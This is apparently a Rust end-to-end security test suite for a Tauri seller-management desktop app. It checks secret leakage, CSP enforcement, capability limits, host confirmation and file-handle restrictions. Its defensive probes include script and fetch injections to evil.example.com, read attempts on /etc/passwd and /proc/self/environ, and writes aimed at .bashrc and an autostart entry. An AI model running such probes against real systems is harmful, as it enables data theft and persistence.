//! Security of the real app after an end-to-end session: no secret (API key, account password)
//! in any command result, event, file or output; the CSP refuses remote and inline scripts; a
//! command the capabilities do not grant is refused; with no usable Secret Service adding a
//! profile fails with a clear message and writes the key nowhere.
//!
//! The app writes no log files of its own (no log plugin: it prints a few lines to stderr, which
//! tauri-driver's log captures); the checks below read that output and every file under the
//! app's directories, logs included, for both secrets.

use std::process::{Command, Stdio};
use std::time::Duration;

use futures::FutureExt;

use e2e::guide::WOW;
use e2e::{files_containing, random_hex, wait_until, App, Market, TIMEOUT};
use serde_json::{json, Value};
use thirtyfour::prelude::*;

/// Records every value the page's IPC hands to a callback: command results, command errors and
/// events all arrive through `__TAURI_INTERNALS__.runCallback`, which looks the callback up in
/// the `callbacks` map; the map's `get` is wrapped on the instance, so nothing of Tauri changes.
const RECORD_IPC: &str = r#"
  const internals = window.__TAURI_INTERNALS__;
  const map = internals.callbacks;
  if (!window.__sdRecorded) {
    window.__sdRecorded = [];
    const get = Map.prototype.get.bind(map);
    Object.defineProperty(map, 'get', { value: (id) => {
      const cb = get(id);
      if (!cb) return cb;
      return (data) => {
        try { window.__sdRecorded.push(JSON.stringify(data)); } catch (e) { window.__sdRecorded.push(String(data)); }
        return cb(data);
      };
    }});
  }
  return true;
"#;

async fn recorded(app: &App) -> Vec<String> {
    let v = app.js("return window.__sdRecorded || []", vec![]).await;
    v.as_array().expect("array").iter().map(|s| s.as_str().unwrap_or_default().to_owned()).collect()
}

/// Calls a command through the page's IPC (as the UI does) and returns `{ok}` or `{err}`.
async fn invoke(app: &App, cmd: &str, args: Value) -> Value {
    let script = "const done = arguments[arguments.length - 1]; \
        window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1]) \
          .then(r => done({ ok: r === undefined ? null : r }), e => done({ err: typeof e === 'string' ? e : JSON.stringify(e) }));";
    app.driver
        .execute_async(script, vec![json!(cmd), args])
        .await
        .unwrap_or_else(|e| panic!("invoke {cmd}: {e}"))
        .json()
        .clone()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_secret_leaves_the_keychain_csp_and_capabilities_hold() {
    e2e::run("security", |app| async move {
        assert_eq!(app.js(RECORD_IPC, vec![]).await, json!(true));

        // --- A session: a GGChest profile with a key only this run knows, a connection test,
        // its offers loaded, an accounts offer with a password, a second (GG) profile.
        let key = app.new_seller(Market::GgChest).await;
        let id = app.add_profile("E2E security", Market::GgChest, &key).await;
        app.click("header-test-connection").await;
        app.find("header-test-connection-ok").await;
        let tag = random_hex(6);
        let password = format!("pw-{}", random_hex(20));
        let login = format!("hero_{tag}");
        app.click("tab-new-offer").await;
        app.find("ggc-wizard").await;
        app.click("ggc-wizard-type-accounts").await;
        app.click(&format!("ggc-wizard-game-{WOW}")).await;
        app.find("ggc-wizard-step-body-attributes").await;
        wait_until("the attributes to load", TIMEOUT, async || {
            (app.exists("ggc-wizard-attributes").await || app.exists("ggc-wizard-attributes-none").await).then_some(())
        })
        .await;
        for testid in app.testids("select[data-testid^=\"ggc-wizard-attribute-\"]").await {
            let mut first = None;
            for o in app.all_css(&format!("{} option", App::sel(&testid))).await {
                if let Some(v) = o.attr("value").await.ok().flatten().filter(|v| !v.is_empty()) {
                    first = Some(v);
                    break;
                }
            }
            app.choose(&testid, &first.expect("an option")).await;
        }
        app.click("ggc-wizard-next").await;
        app.find("ggc-wizard-step-body-details").await;
        app.click("ggc-wizard-input-delivery-method-manual").await;
        let title = format!("E2E security {tag}");
        app.fill("ggc-wizard-input-title", &title).await;
        app.fill("ggc-wizard-input-description", "Made by the security test.").await;
        app.fill("ggc-wizard-input-price", "25.00").await;
        app.choose("ggc-wizard-input-delivery-time", "1h").await;
        app.click("ggc-wizard-accounts-add").await;
        app.fill("ggc-wizard-accounts-login-0", &login).await;
        app.fill("ggc-wizard-accounts-password-0", &password).await;
        app.fill("ggc-wizard-accounts-email-login-0", &format!("{login}@example.com")).await;
        app.click("ggc-wizard-submit").await;
        let offer = app
            .wait_state(&format!("the offer “{title}”"), |s| {
                s.ggchest_offers_of(&key).into_iter().find(|o| o.title == title).map(|o| o.id.clone())
            })
            .await;
        app.find(&format!("ggc-offers-table-row-{offer}")).await;
        let gg_key = app.new_seller(Market::Gg).await;
        app.add_profile("E2E security GG", Market::Gg, &gg_key).await;
        app.open_profile(&id).await;
        app.find(&format!("ggc-offers-table-row-{offer}")).await;

        // --- Every command result and event of the session: no key. (The password went to the
        // marketplace, as the user asked; it is checked in files and output below.)
        let seen = recorded(&app).await;
        assert!(seen.len() >= 10, "the recorder saw the session's IPC ({} values)", seen.len());
        assert!(seen.iter().any(|s| s.contains("masked_key")), "the recorder saw add_profile's result");
        for secret in [&key, &gg_key] {
            let hits: Vec<&String> = seen.iter().filter(|s| s.contains(secret.as_str())).collect();
            assert!(hits.is_empty(), "a command result or event carries an API key: {hits:?}");
        }
        eprintln!("e2e: {} command results and events, none with a key", seen.len());

        // --- Files and output: neither key nor the account password.
        let mut read = 0;
        for dir in app.dirs.app_dirs() {
            for secret in [&key, &gg_key, &password] {
                let (found, n) = files_containing(dir, secret);
                assert!(found.is_empty(), "a secret is in the app's files: {found:?}");
                read += n;
            }
        }
        let store = app.dirs.config.join("profiles.json");
        let store_text = std::fs::read_to_string(&store).expect("profiles.json");
        assert!(store_text.contains(&id), "profiles.json holds the profile");
        for secret in [&key, &gg_key, &password] {
            assert!(!store_text.contains(secret.as_str()), "profiles.json holds a secret");
            assert!(!app.driver_log().contains(secret.as_str()), "the app's output (its only log) holds a secret");
        }
        let logs: Vec<_> = app
            .dirs
            .app_dirs()
            .iter()
            .flat_map(|d| walk(d))
            .filter(|p| p.extension().is_some_and(|e| e == "log") || p.components().any(|c| c.as_os_str() == "logs"))
            .collect();
        eprintln!("e2e: {read} file reads, no secret; log files under the app's directories: {logs:?}");

        // --- CSP: present (Tauri sends it with the page; WebKit reports it whole in each
        // violation), and a remote script, an inline script and a fetch elsewhere are refused.
        let blocked = app
            .driver
            .execute_async(
                "const done = arguments[arguments.length - 1]; const violations = []; let policy = null; \
                 document.addEventListener('securitypolicyviolation', e => { \
                   violations.push(e.violatedDirective + ' ' + e.blockedURI); policy = e.originalPolicy; }); \
                 const remote = document.createElement('script'); remote.src = 'https://evil.example.com/x.js'; \
                 document.head.appendChild(remote); \
                 const inline = document.createElement('script'); inline.textContent = 'window.__sdPwned = 1;'; \
                 document.head.appendChild(inline); \
                 fetch('https://evil.example.com/collect').catch(() => {}); \
                 const pixel = document.createElement('img'); pixel.src = 'https://evil.example.com/pixel.png'; \
                 document.body.appendChild(pixel); \
                 setTimeout(() => done({ violations, policy, pwned: window.__sdPwned === 1 }), 1000);",
                vec![],
            )
            .await
            .expect("inject scripts")
            .json()
            .clone();
        assert_eq!(blocked["pwned"], json!(false), "an injected inline script ran: {blocked}");
        let policy = blocked["policy"].as_str().unwrap_or_default();
        for directive in ["default-src 'self'", "script-src 'self'", "connect-src ipc: http://ipc.localhost"] {
            assert!(policy.contains(directive), "the page's CSP has {directive}: {blocked}");
        }
        let violations: Vec<&str> =
            blocked["violations"].as_array().expect("list").iter().filter_map(|v| v.as_str()).collect();
        for (what, directive, uri) in [
            ("the remote script", "script-src", "evil.example.com"),
            ("the inline script", "script-src", "inline"),
            ("the fetch elsewhere", "connect-src", "evil.example.com"),
            ("an image from another host (issue 11, finding 9)", "img-src", "evil.example.com"),
        ] {
            assert!(
                violations.iter().any(|v| v.starts_with(directive) && v.contains(uri)),
                "{what} was refused by the CSP: {violations:?}"
            );
        }
        eprintln!("e2e: CSP {policy:?}; refused: {violations:?}");

        // --- Commands the capabilities do not grant are refused (plugins that are registered,
        // commands of theirs that are not allowed, and a plugin that is not there).
        for (cmd, args) in [
            ("plugin:store|load", json!({ "path": "profiles.json" })),
            ("plugin:dialog|message", json!({ "message": "hello", "title": "t" })),
            ("plugin:window|set_title", json!({ "label": "main", "value": "pwned" })),
            ("plugin:window-state|save_window_state", json!({ "flags": 63 })),
            ("plugin:fs|read_file", json!({ "path": "/etc/passwd" })),
        ] {
            let r = invoke(&app, cmd, args).await;
            let err = r["err"].as_str().unwrap_or_else(|| panic!("{cmd} was not refused: {r}"));
            assert!(err.contains("not allowed") || err.contains("not found"), "{cmd} refused with: {err}");
            eprintln!("e2e: {cmd} refused: {err}");
        }
        // A granted command still works through the same path.
        let ok = invoke(&app, "list_profiles", json!({})).await;
        assert!(ok.get("ok").is_some(), "list_profiles is allowed: {ok}");
        assert!(!ok.to_string().contains(&key), "list_profiles carries no key");
    })
    .await;
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push(p);
            }
        }
    }
    out
}

/// The app started with a session bus address that leads nowhere: adding a profile shows the
/// keychain error, and the key is in no file and no output. Its own small harness (the shared
/// one gives the app the surrounding, working Secret Service).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_secret_service_adding_a_profile_fails_clearly_and_stores_nothing() {
    without_a_secret_service(e2e::ENGLISH, "Keychain unavailable", |shown| {
        shown.contains("Secret Service") || shown.contains("gnome-keyring")
    })
    .await;
}

/// The same in a Russian window: the keychain's message is in Russian too (its template and
/// values come with it), and still names what to start.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_secret_service_the_error_reads_in_russian() {
    without_a_secret_service(e2e::RUSSIAN, "Хранилище ключей недоступно", |shown| {
        (shown.contains("хранилище ключей недоступно: нет сеансовой шины D-Bus")
            || shown.contains("служба хранилища ключей не запущена"))
            && shown.contains("gnome-keyring")
    })
    .await;
}

async fn without_a_secret_service(locale: &str, title: &str, says_the_fix: impl Fn(&str) -> bool) {
    let tools = e2e::preflight();
    let root = tempfile::Builder::new().prefix("sellerdesk-e2e-nokeyring-").tempdir().expect("temp dir");
    let dir = |n: &str| {
        let p = root.path().join(n);
        std::fs::create_dir_all(&p).expect("dir");
        p
    };
    let (config, data, xdg_config, cache) = (dir("config"), dir("xdg-data"), dir("xdg-config"), dir("xdg-cache"));
    let log_path = root.path().join("tauri-driver.log");
    let sandbox = e2e::sandbox::Sandbox::start(e2e::sandbox::SandboxConfig::default()).await.expect("sandbox");
    let key = format!("ggc_test_e2e_{}", random_hex(24));
    let resp = reqwest::Client::new()
        .post(format!("{}/sellers", sandbox.admin_url()))
        .json(&json!({ "market": "ggchest", "key": key }))
        .send()
        .await
        .expect("POST /sellers");
    assert!(resp.status().is_success());

    let (port, native) = e2e::two_free_ports();
    let log = std::fs::File::create(&log_path).expect("log");
    let mut driver_proc = e2e::os_language(&mut Command::new(&tools.tauri_driver), locale)
        .args(["--port", &port.to_string(), "--native-port", &native.to_string()])
        .env("SELLERDESK_CONFIG_DIR", &config)
        .env("XDG_DATA_HOME", &data)
        .env("XDG_CONFIG_HOME", &xdg_config)
        .env("XDG_CACHE_HOME", &cache)
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/sellerdesk-no-bus")
        .stdin(Stdio::null())
        .stdout(log.try_clone().expect("log"))
        .stderr(log)
        .spawn()
        .expect("start tauri-driver");
    let outcome = async {
        wait_until("tauri-driver to listen", Duration::from_secs(15), async || {
            tokio::net::TcpStream::connect(("127.0.0.1", port)).await.ok().map(|_| ())
        })
        .await;
        let mut caps = thirtyfour::Capabilities::new();
        caps.set("browserName", "wry").expect("caps");
        caps.set("tauri:options", json!({ "application": e2e::app_binary() })).expect("caps");
        let driver = WebDriver::new(format!("http://127.0.0.1:{port}"), caps).await.expect("WebDriver session");
        let result = std::panic::AssertUnwindSafe(async {
            let find = async |css: String| {
                wait_until(&format!("`{css}`"), TIMEOUT, async || driver.find(By::Css(css.as_str())).await.ok()).await
            };
            let sel = |id: &str| format!("[data-testid=\"{id}\"]");
            find(sel("welcome")).await;
            find(sel("welcome-add-profile")).await.click().await.expect("click");
            find(sel("profile-add-input-name")).await.send_keys("No keyring").await.expect("type");
            find(sel("profile-add-market-ggchest")).await.click().await.expect("click");
            let url = find(sel("profile-add-input-base-url")).await;
            url.send_keys(Key::Control + "a").await.expect("select");
            url.send_keys(Key::Backspace).await.expect("clear");
            url.send_keys(sandbox.ggchest_base_url().as_str()).await.expect("type");
            find(sel("profile-add-input-api-key")).await.send_keys(key.as_str()).await.expect("type");
            find(sel("profile-add-submit")).await.click().await.expect("click");
            let shown = wait_until("the keychain error", TIMEOUT, async || {
                let text = driver.find(By::Css("body")).await.ok()?.text().await.ok()?;
                text.contains(title).then_some(text)
            })
            .await;
            assert!(says_the_fix(&shown), "the error says what to install or start: {shown}");
            let profiles = driver.find_all(By::Css("[data-testid^=\"sidebar-profile-\"]")).await.unwrap_or_default();
            assert!(profiles.is_empty(), "no profile was added without a keychain");
        })
        .catch_unwind()
        .await;
        let _ = tokio::time::timeout(Duration::from_secs(10), driver.quit()).await;
        result
    }
    .await;
    let _ = Command::new("kill").args(["-TERM", &driver_proc.id().to_string()]).status();
    let _ = tokio::task::spawn_blocking(move || driver_proc.wait()).await;
    sandbox.shutdown().await;
    if let Err(panic) = outcome {
        eprintln!("e2e: tauri-driver's log:\n{}", std::fs::read_to_string(&log_path).unwrap_or_default());
        std::panic::resume_unwind(panic);
    }
    for d in [&config, &data, &xdg_config, &cache] {
        let (found, _) = files_containing(d, &key);
        assert!(found.is_empty(), "the key was written without a keychain: {found:?}");
    }
    let store = std::fs::read_to_string(config.join("profiles.json")).unwrap_or_default();
    assert!(!store.contains(&key), "profiles.json holds the key");
    assert!(!store.contains("No keyring"), "profiles.json holds no half-added profile: {store}");
    assert!(!std::fs::read_to_string(&log_path).unwrap_or_default().contains(&key), "the output holds the key");
}

// ---------------------------------------------------------------------------------------------
// Issue 11, finding 1: a profile's key goes only to its marketplace, the app's own sandbox, or a
// host the user confirmed in a native dialog shown by the Rust side. The webview alone cannot.

/// A listener on 127.0.0.2 that records what each connection sends (up to the end of its
/// headers) and answers 401: where a hostile page would like a key to go.
struct Trap {
    port: u16,
    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl Trap {
    async fn start() -> Trap {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let listener = tokio::net::TcpListener::bind("127.0.0.2:0").await.expect("bind 127.0.0.2");
        let port = listener.local_addr().expect("addr").port();
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let record = seen.clone();
        tokio::spawn(async move {
            while let Ok((mut sock, _)) = listener.accept().await {
                let record = record.clone();
                tokio::spawn(async move {
                    let (mut got, mut buf) = (Vec::new(), vec![0u8; 16 * 1024]);
                    while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_secs(2), sock.read(&mut buf)).await {
                        if n == 0 {
                            break;
                        }
                        got.extend_from_slice(&buf[..n]);
                        if got.windows(4).any(|w| w == b"\r\n\r\n") {
                            break;
                        }
                    }
                    record.lock().unwrap().push(String::from_utf8_lossy(&got).into_owned());
                    let _ = sock
                        .write_all(b"HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}")
                        .await;
                });
            }
        });
        Trap { port, seen }
    }

    fn url(&self) -> String {
        format!("http://127.0.0.2:{}", self.port)
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// The code of a command's rejection (`{err}` from [`invoke`], a JSON `CommandError`).
fn err_code(r: &Value) -> String {
    let err = r["err"].as_str().unwrap_or_else(|| panic!("the command was not refused: {r}"));
    serde_json::from_str::<Value>(err)
        .ok()
        .and_then(|e| e["code"].as_str().map(str::to_owned))
        .unwrap_or_else(|| err.to_owned())
}

/// The user answers "no" (the debug build's test-only answer to the native dialog): the base URL
/// does not change, and neither that nor a test of the connection sends the key there. Nor does
/// a base URL changed behind the app's back (profiles.json edited): unconfirmed, it gets no key.
/// Before the fix the listener received the key twice.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_webview_cannot_send_a_key_to_a_host_the_user_did_not_confirm() {
    let trap = Trap::start().await;
    e2e::run_with_env("security-base-url-no", &[("SELLERDESK_TEST_CONFIRM", "no")], |app| async move {
        let key = app.new_seller(Market::GgChest).await;
        let id = app.add_profile("E2E redirect", Market::GgChest, &key).await;

        let r = invoke(&app, "set_profile_base_url", json!({ "profileId": id, "baseUrl": trap.url() })).await;
        assert_eq!(err_code(&r), "not_confirmed", "the change was refused: {r}");
        let r = invoke(&app, "test_connection", json!({ "profileId": id })).await;
        assert_eq!(r["ok"]["ok"], json!(true), "the profile still works where it was: {r}");
        let store = std::fs::read_to_string(app.dirs.config.join("profiles.json")).expect("profiles.json");
        assert!(!store.contains(&trap.url()), "the refused URL is not in profiles.json: {store}");

        // The base URL changed by other means (the file edited): no key for an unconfirmed host.
        let mut doc: Value = serde_json::from_str(&store).expect("json");
        for p in doc["profiles"].as_array_mut().expect("profiles") {
            if p["id"] == json!(id) {
                p["base_url"] = json!(trap.url());
            }
        }
        std::fs::write(app.dirs.config.join("profiles.json"), serde_json::to_vec_pretty(&doc).unwrap()).unwrap();
        let r = invoke(&app, "test_connection", json!({ "profileId": id })).await;
        assert_eq!(r["ok"]["ok"], json!(false), "{r}");
        assert_eq!(r["ok"]["code"], json!("base_url_unconfirmed"), "{r}");
        let r = invoke(&app, "ggc_all_offers", json!({ "profileId": id, "filter": { "status": null, "offer_type": null, "game_id": null }, "operationId": "sec-1" })).await;
        assert_eq!(err_code(&r), "base_url_unconfirmed", "{r}");

        tokio::time::sleep(Duration::from_millis(500)).await;
        assert_eq!(trap.seen(), Vec::<String>::new(), "nothing reached the listener");
        eprintln!("e2e: set_profile_base_url refused without confirmation; the listener on {} received nothing", trap.url());
    })
    .await;
}

/// The user answers "yes": the base URL changes, the host is recorded as confirmed for this
/// profile, and the key goes there (the user asked for it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_the_user_confirmed_gets_the_key() {
    let trap = Trap::start().await;
    e2e::run_with_env("security-base-url-yes", &[("SELLERDESK_TEST_CONFIRM", "yes")], |app| async move {
        let key = app.new_seller(Market::GgChest).await;
        let id = app.add_profile("E2E moved", Market::GgChest, &key).await;
        // As the user does it: the profile's "Base URL…" dialog (the native confirmation answered
        // "yes" by the test-only variable).
        app.click("sidebar-manage-profiles").await;
        app.click(&format!("profiles-base-url-{id}")).await;
        app.fill("profile-base-url-input-base-url", &trap.url()).await;
        app.click("profile-base-url-submit").await;
        app.toast("success", "Base URL changed").await;
        app.wait_gone("profile-base-url").await;
        let store = std::fs::read_to_string(app.dirs.config.join("profiles.json")).expect("profiles.json");
        let doc: Value = serde_json::from_str(&store).expect("json");
        let profile =
            doc["profiles"].as_array().unwrap().iter().find(|p| p["id"] == json!(id)).expect("profile").clone();
        assert!(
            profile["confirmed_hosts"].as_array().is_some_and(|h| h.contains(&json!(trap.url()))),
            "the confirmed host is recorded: {profile}"
        );
        let r = invoke(&app, "test_connection", json!({ "profileId": id })).await;
        assert_eq!(r["ok"]["code"], json!("key_rejected"), "the test reached the confirmed host: {r}");
        let seen = trap.seen();
        assert!(seen.iter().any(|req| req.contains(&key)), "the confirmed host got the key: {seen:?}");
        // And back to the production URL needs no confirmation.
        let r = invoke(&app, "set_profile_base_url", json!({ "profileId": id, "baseUrl": null })).await;
        assert_eq!(r["ok"]["uses_production_url"], json!(true), "{r}");
    })
    .await;
}

/// With no test answer set, the change waits for a real native dialog, titled with the host; closing
/// it (Escape) answers no. Nothing the webview does answers it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_test_answer_a_native_dialog_asks_the_user() {
    let trap = Trap::start().await;
    e2e::run("security-base-url-dialog", |app| async move {
        let key = app.new_seller(Market::GgChest).await;
        let id = app.add_profile("E2E dialog", Market::GgChest, &key).await;
        app.js(
            "window.__sdAnswer = null; window.__TAURI_INTERNALS__.invoke('set_profile_base_url', \
             { profileId: arguments[0], baseUrl: arguments[1] }) \
             .then(r => { window.__sdAnswer = { ok: r }; }, e => { window.__sdAnswer = { err: JSON.stringify(e) }; }); return true;",
            vec![json!(id), json!(trap.url())],
        )
        .await;
        let title = format!("Send the API key to {}?", trap.url());
        let window = wait_until("the native confirmation dialog", TIMEOUT, async || {
            let out = Command::new("xdotool").args(["search", "--name", &title]).output().ok()?;
            String::from_utf8_lossy(&out.stdout).lines().next().map(str::to_owned)
        })
        .await;
        assert_eq!(app.js("return window.__sdAnswer", vec![]).await, Value::Null, "the command waits for the user");
        // Escape closes it, typed into the dialog as a user would (focus, then a real key press:
        // GTK ignores synthetic key events sent to a window).
        let mut tries = 0;
        let answer = wait_until("the dialog to close and the command to end", TIMEOUT, async || {
            if tries % 20 == 0 {
                let _ = Command::new("xdotool").args(["windowfocus", "--sync", &window]).status();
                let _ = Command::new("xdotool").args(["key", "--clearmodifiers", "Escape"]).status();
            }
            tries += 1;
            let v = app.js("return window.__sdAnswer", vec![]).await;
            (!v.is_null()).then_some(v)
        })
        .await;
        assert_eq!(err_code(&answer), "not_confirmed", "closing the dialog says no: {answer}");
        assert!(trap.seen().is_empty(), "nothing reached the listener");
    })
    .await;
}

// ---------------------------------------------------------------------------------------------
// Issue 11, finding 2: file commands reach only files the user gave (the shell's own dialogs, or
// a drop registered from the window's event); the webview holds handles, never paths.

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn file_commands_reach_only_files_the_user_gave() {
    let dir = tempfile::Builder::new().prefix("sellerdesk-e2e-files-").tempdir().expect("temp dir");
    let picked = dir.path().join("codes.txt");
    std::fs::write(&picked, "AAA-1\nBBB-2\n").unwrap();
    let victim = dir.path().join(".bashrc");
    std::fs::write(&victim, "# the user's own\n").unwrap();
    let png = dir.path().join("secret.png");
    std::fs::write(&png, e2e::png(4, 4)).unwrap();
    let autostart = dir.path().join(".config/autostart/evil.desktop");
    let pick = picked.display().to_string();
    let env = [("SELLERDESK_TEST_PICK", pick.clone())];
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    e2e::run_with_env("security-files", &env, |app| async move {
        let key = app.new_seller(Market::GgChest).await;
        let id = app.add_profile("E2E files", Market::GgChest, &key).await;

        // The review's reproduction: paths named by the webview under the old argument name. Before
        // the fix read_codes_file returned /etc/passwd line by line and the exports wrote anywhere.
        for (cmd, args) in [
            ("read_codes_file", json!({ "path": "/etc/passwd" })),
            ("read_accounts_csv", json!({ "path": "/etc/passwd" })),
            ("check_icon", json!({ "path": png.display().to_string() })),
            ("audit_export", json!({ "query": null, "path": victim.display().to_string() })),
            ("export_csv", json!({ "profileId": id, "what": "ggc_offers", "path": autostart.display().to_string() })),
        ] {
            let r = invoke(&app, cmd, args).await;
            assert!(r.get("err").is_some(), "{cmd} with a path the webview named was not refused: {r}");
            assert!(!r.to_string().contains("root:") && !r.to_string().contains("base64"), "{cmd} read the file: {r}");
        }
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "# the user's own\n", "the victim file is untouched");
        assert!(!autostart.exists(), "no autostart entry was created");

        // Paths the webview names, and handles nobody gave: refused by every command.
        for named in ["/etc/passwd", "/proc/self/environ", &png.display().to_string(), "file-1-0000000000000000"] {
            for (cmd, args) in [
                ("read_codes_file", json!({ "file": named })),
                ("read_accounts_csv", json!({ "file": named })),
                ("check_icon", json!({ "file": named })),
                (
                    "ggc_attach_icon",
                    json!({ "profileId": id, "offerId": "00000000-0000-4000-8000-000000000000", "file": named }),
                ),
                ("job_preview", json!({ "profileId": id, "spec": { "kind": "ggc_create", "file": named } })),
            ] {
                let r = invoke(&app, cmd, args).await;
                assert_eq!(err_code(&r), "file_not_picked", "{cmd} {named}: {r}");
                assert!(!r.to_string().contains("root:"), "{cmd} returned a file's content: {r}");
            }
        }
        // Writes to a path the webview names: refused, nothing written or created.
        for target in [victim.display().to_string(), autostart.display().to_string()] {
            for (cmd, args) in [
                ("audit_export", json!({ "query": null, "file": target })),
                ("export_csv", json!({ "profileId": id, "what": "ggc_offers", "file": target })),
                ("job_results_csv", json!({ "jobId": "x", "file": target })),
            ] {
                let r = invoke(&app, cmd, args).await;
                assert_eq!(err_code(&r), "file_not_picked", "{cmd} {target}: {r}");
            }
        }
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "# the user's own\n", "the victim file is untouched");
        assert!(!autostart.exists(), "no autostart entry was created");
        // The plugin's own dialogs are not the webview's to open any more.
        for cmd in ["plugin:dialog|open", "plugin:dialog|save"] {
            let r = invoke(&app, cmd, json!({ "options": {} })).await;
            let err = r["err"].as_str().unwrap_or_else(|| panic!("{cmd} was not refused: {r}"));
            assert!(err.contains("not allowed"), "{cmd}: {err}");
        }

        // The file the user chose in the shell's dialog (answered by SELLERDESK_TEST_PICK): read
        // through its handle, which is all the webview gets.
        let r = invoke(&app, "pick_open_file", json!({ "kind": "codes" })).await;
        let handle = r["ok"]["handle"].as_str().unwrap_or_else(|| panic!("a handle: {r}")).to_owned();
        assert_eq!(r["ok"]["name"], json!("codes.txt"));
        assert!(!r.to_string().contains(&pick), "no path comes back: {r}");
        let r = invoke(&app, "read_codes_file", json!({ "file": handle })).await;
        assert_eq!(r["ok"]["codes"], json!(["AAA-1", "BBB-2"]), "{r}");
        // A handle is for what it was given for: one to read cannot be written, and one chosen in
        // the save dialog cannot be read.
        let r = invoke(&app, "audit_export", json!({ "query": null, "file": handle })).await;
        assert_eq!(err_code(&r), "file_not_picked", "{r}");
        let r = invoke(&app, "pick_save_file", json!({ "kind": "csv", "suggestedName": "../../x.csv" })).await;
        let save = r["ok"]["handle"].as_str().unwrap_or_else(|| panic!("a handle: {r}")).to_owned();
        let r = invoke(&app, "read_codes_file", json!({ "file": save })).await;
        assert_eq!(err_code(&r), "file_not_picked", "{r}");
    })
    .await;
}
